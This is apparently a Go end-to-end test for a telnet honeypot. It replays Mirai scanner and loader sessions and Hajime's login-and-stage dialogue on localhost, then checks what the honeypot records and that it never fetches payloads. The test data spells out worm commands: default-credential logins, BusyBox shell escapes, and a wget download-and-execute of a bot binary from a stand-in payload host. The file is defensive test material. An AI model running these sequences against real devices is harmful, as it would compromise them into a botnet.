package e2e

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// payloadServer stands where an attacker's download server would be. The
// honeypot must never connect to it: it records payload URLs, never fetches.
func payloadServer(t *testing.T) (addr string, hits *atomic.Int64) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	hits = new(atomic.Int64)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Close()
		}
	}()
	return ln.Addr().String(), hits
}

// miraiScanner plays Mirai's scanner (bot/scanner.c): brute-force the login,
// escape to a shell, check for BusyBox with an unknown applet.
func miraiScanner(t *testing.T, addr string) (srcPort int) {
	w := dialWorm(t, addr)
	// A wrong pair first, as a brute-forcer does: it must be seen as failed.
	w.login("root", "not-in-the-table")
	w.expect("Login incorrect")
	w.login("root", "xc3511")
	w.expect("#")
	for _, c := range []string{"enable", "system", "shell", "sh"} {
		w.line(c)
	}
	w.line("/bin/busybox MIRAI")
	w.expect("MIRAI: applet not found")
	return w.localPort()
}

// elfArch reads the architecture the way Mirai's loader does (loader/src/
// connection.c): e_machine at offset 18, in the endianness of EI_DATA.
func elfArch(out string) string {
	i := strings.Index(out, "\x7fELF")
	if i < 0 || len(out) < i+20 {
		return ""
	}
	h := []byte(out[i : i+20])
	var bo binary.ByteOrder = binary.LittleEndian
	if h[5] == 2 {
		bo = binary.BigEndian
	}
	switch bo.Uint16(h[18:]) {
	case 40:
		return "arm"
	case 8:
		if h[5] == 2 {
			return "mips"
		}
		return "mpsl"
	case 3:
		return "x86"
	case 62:
		return "x86_64"
	case 20:
		return "ppc"
	case 42:
		return "sh4"
	case 4:
		return "m68k"
	case 2:
		return "spc"
	}
	return ""
}

// miraiLoader plays Mirai's loader (loader/src/server.c) after the scanner
// reported the credentials: find a writable directory, learn the CPU from
// /bin/echo, download the bot with wget, run it.
func miraiLoader(t *testing.T, addr, payloadHost string) (srcPort int, payloadURL string) {
	w := dialWorm(t, addr)
	w.login("root", "xc3511")
	w.expect("#")
	for _, c := range []string{"enable", "system", "shell", "sh"} {
		w.line(c)
	}
	w.line("/bin/busybox ECCHI")
	w.expect("ECCHI: applet not found")
	w.run("/bin/busybox ps", "ECCHI")
	mounts := w.run("/bin/busybox cat /proc/mounts", "ECCHI")
	var dirs []string
	for _, line := range strings.Split(mounts, "\n") {
		f := strings.Fields(line)
		if len(f) >= 4 && strings.HasPrefix(f[1], "/") && slices.Contains(strings.Split(f[3], ","), "rw") {
			dirs = append(dirs, f[1])
		}
	}
	if len(dirs) == 0 {
		t.Fatalf("no writable mount in /proc/mounts:\n%s", mounts)
	}
	writable := ""
	for _, d := range dirs {
		out := w.run(fmt.Sprintf(`/bin/busybox echo -e '\x6b\x61\x6d\x69' > %s/.nippon; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon`, d, d, d), "ECCHI")
		if strings.Contains(out, "kami") {
			writable = d
			break
		}
	}
	if writable == "" {
		t.Fatalf("the loader found no directory where it could write and read back 'kami' (tried %v)", dirs)
	}
	w.line("cd " + writable + "/")
	w.run("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper", "ECCHI")
	w.line("/bin/busybox cat /bin/echo")
	w.line("/bin/busybox ECCHI")
	arch := elfArch(w.expect("ECCHI: applet not found"))
	if arch == "" {
		t.Fatal("cat /bin/echo did not give an ELF header the loader can read")
	}
	methods := w.run("/bin/busybox wget; /bin/busybox tftp", "ECCHI")
	if strings.Contains(methods, "wget: applet not found") {
		t.Fatalf("wget missing: %q", methods)
	}
	payloadURL = fmt.Sprintf("http://%s/bins/mirai.%s", payloadHost, arch)
	w.run(fmt.Sprintf("/bin/busybox wget %s -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper", payloadURL), "ECCHI")
	w.line("./dvrHelper telnet." + arch + "; /bin/busybox IHCCE")
	w.expect("IHCCE: applet not found")
	w.run("rm -rf upnp; > dvrHelper", "ECCHI")
	w.conn.Close() // the loader hangs up when done
	return w.localPort(), payloadURL
}

// hajime plays Hajime's dialogue as Rapidity Networks described it (2016):
// the Mirai-like shell escape, a hidden writable directory, a stage-1 loader
// .s written with echo -ne from hex escapes, which fetches .i and runs it.
func hajime(t *testing.T, addr string) (srcPort int) {
	w := dialWorm(t, addr)
	w.login("admin", "admin")
	w.expect("#")
	for _, c := range []string{"enable", "system", "shell", "sh"} {
		w.line(c)
	}
	w.line("/bin/busybox ECCHI")
	w.expect("ECCHI: applet not found")
	w.run("cat /proc/mounts", "ECCHI")
	w.line("cd /var")
	w.run("cat .s || cp /bin/echo .s", "ECCHI")
	w.run(`echo -ne "\x7f\x45\x4c\x46\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00" > .s`, "ECCHI")
	w.line("./.s>.i; chmod +x .i; ./.i; exit")
	// That exit leaves the nested sh; Hajime then hangs up.
	w.expect("#")
	w.conn.Close()
	return w.localPort()
}

type apiSession struct {
	ID          string `json:"id"`
	Family      string
	Reasons     []string
	SrcIP       string `json:"src_ip"`
	DstPort     int    `json:"dst_port"`
	End         *time.Time
	Credentials []struct {
		Username, Password string
		Success            bool
	}
	Commands   []string
	Downloads  []struct{ URL, Tool string }
	Transcript []apiEvent
}

func (s *server) session(id string) apiSession {
	s.t.Helper()
	var out apiSession
	if code := s.get("/api/v1/sessions/"+id, nil, testToken, &out); code != http.StatusOK {
		s.t.Fatalf("session %s: status %d", id, code)
	}
	return out
}

// waitClosed waits until the session's close has been stored.
func (s *server) waitClosed(id string) apiSession {
	s.t.Helper()
	var out apiSession
	waitFor(s.t, "session "+id+" closed in the store", 20*time.Second, func() bool {
		out = s.session(id)
		return out.End != nil
	})
	return out
}

func TestWormsEndToEnd(t *testing.T) {
	srv := startServer(t, t.TempDir())
	payloadHost, hits := payloadServer(t)

	scanPort := miraiScanner(t, srv.telnet(0))
	loadPort, payloadURL := miraiLoader(t, srv.telnet(0), payloadHost)
	hajPort := hajime(t, srv.telnet(1))
	// Every step a worm saw answered is on the bus; wait until the store
	// has it all before reading sessions.
	waitFor(t, "the store to catch up with the bus", 20*time.Second, func() bool {
		st := srv.status()
		c := st.Bus.Consumers["store"]
		return c.Pending == 0 && c.AckPending == 0 && uint64(st.EventsStored) == st.Bus.Messages
	})

	t.Run("mirai scanner", func(t *testing.T) {
		srv := srv.with(t)
		s := srv.session(srv.sessionOf(scanPort))
		if s.Family != "mirai" || len(s.Reasons) == 0 {
			t.Errorf("family %q reasons %q, want mirai with reasons", s.Family, s.Reasons)
		}
		var failed, ok bool
		for _, c := range s.Credentials {
			failed = failed || (!c.Success && c.Username == "root" && c.Password == "not-in-the-table")
			ok = ok || (c.Success && c.Username == "root" && c.Password == "xc3511")
		}
		if !failed || !ok {
			t.Errorf("credentials %+v: want the failed and the successful login", s.Credentials)
		}
		if !slices.Contains(s.Commands, "/bin/busybox MIRAI") {
			t.Errorf("commands %q miss the MIRAI check", s.Commands)
		}
	})

	t.Run("mirai loader", func(t *testing.T) {
		srv := srv.with(t)
		s := srv.session(srv.sessionOf(loadPort))
		s = srv.waitClosed(s.ID)
		if s.Family != "mirai" {
			t.Errorf("family %q, want mirai (reasons %q)", s.Family, s.Reasons)
		}
		if !slices.ContainsFunc(s.Downloads, func(d struct{ URL, Tool string }) bool { return d.URL == payloadURL }) {
			t.Errorf("downloads %+v miss %s", s.Downloads, payloadURL)
		}
		if !slices.ContainsFunc(s.Commands, func(c string) bool { return strings.Contains(c, "cp /bin/echo dvrHelper") }) {
			t.Errorf("commands %q miss the dvrHelper copy", s.Commands)
		}
		dl := srv.events(url.Values{"kind": {"file.download"}, "session": {s.ID}})
		if len(dl) != 1 || dl[0].URL != payloadURL || dl[0].Family != "mirai" || dl[0].SrcIP != "127.0.0.1" {
			t.Errorf("file.download events %+v, want one for %s", dl, payloadURL)
		}
	})

	t.Run("hajime", func(t *testing.T) {
		srv := srv.with(t)
		s := srv.waitClosed(srv.sessionOf(hajPort))
		if s.Family != "hajime" {
			t.Errorf("family %q, want hajime (reasons %q)", s.Family, s.Reasons)
		}
		if !slices.Contains(s.Commands, "./.s>.i; chmod +x .i; ./.i; exit") {
			t.Errorf("commands %q miss the stage-1 run", s.Commands)
		}
		_, port, _ := net.SplitHostPort(srv.telnet(1))
		if fmt.Sprint(s.DstPort) != port {
			t.Errorf("dst_port %d, want the second listener's %s", s.DstPort, port)
		}
	})

	t.Run("never fetched", func(t *testing.T) {
		if n := hits.Load(); n != 0 {
			t.Errorf("the honeypot connected to the payload server %d times", n)
		}
	})

	t.Run("daily stats", func(t *testing.T) {
		srv := srv.with(t)
		var resp struct {
			Days []struct {
				Day      string
				Family   string
				DstPort  int `json:"dst_port"`
				Sessions int
				Sources  int
			}
		}
		today := time.Now().UTC().Format(time.DateOnly)
		srv.get("/api/v1/stats/daily", url.Values{"from": {today}, "to": {today}}, testToken, &resp)
		got := map[string]int{}
		for _, d := range resp.Days {
			got[d.Family] += d.Sessions
			if d.Sources != 1 {
				t.Errorf("%+v: want 1 distinct source (all from 127.0.0.1)", d)
			}
		}
		if got["mirai"] < 2 || got["hajime"] < 1 {
			t.Errorf("daily stats %+v: want 2 mirai and 1 hajime sessions", resp.Days)
		}
	})

	t.Run("api needs the token", func(t *testing.T) {
		srv := srv.with(t)
		if code := srv.get("/api/v1/events", nil, "", nil); code != http.StatusUnauthorized {
			t.Errorf("no token: %d", code)
		}
		if code := srv.get("/api/v1/events", nil, "wrong-token-wrong-token", nil); code != http.StatusUnauthorized {
			t.Errorf("wrong token: %d", code)
		}
		if code := srv.get("/api/v1/sessions/nosuchsession", nil, testToken, nil); code != http.StatusNotFound {
			t.Errorf("unknown session: %d", code)
		}
		if code := srv.get("/api/v1/events", url.Values{"kind": {"no.such.kind"}}, testToken, nil); code != http.StatusBadRequest {
			t.Errorf("bad kind: %d", code)
		}
	})

	t.Run("metrics", func(t *testing.T) {
		resp, err := http.Get(srv.apiURL("/metrics", nil))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var found bool
		sc := bufio.NewScanner(resp.Body)
		re := regexp.MustCompile(`^honeygate_events_stored_total\{kind="file.download"\} [1-9]`)
		for sc.Scan() {
			found = found || re.MatchString(sc.Text())
		}
		if !found {
			t.Error("/metrics has no honeygate_events_stored_total for file.download")
		}
	})

	t.Run("json log", func(t *testing.T) {
		waitFor(t, "the download in DATA/log/events.json", 10*time.Second, func() bool {
			b, _ := os.ReadFile(filepath.Join(srv.data, "log", "events.json"))
			return strings.Contains(string(b), `"url":"`+payloadURL+`"`)
		})
	})
}
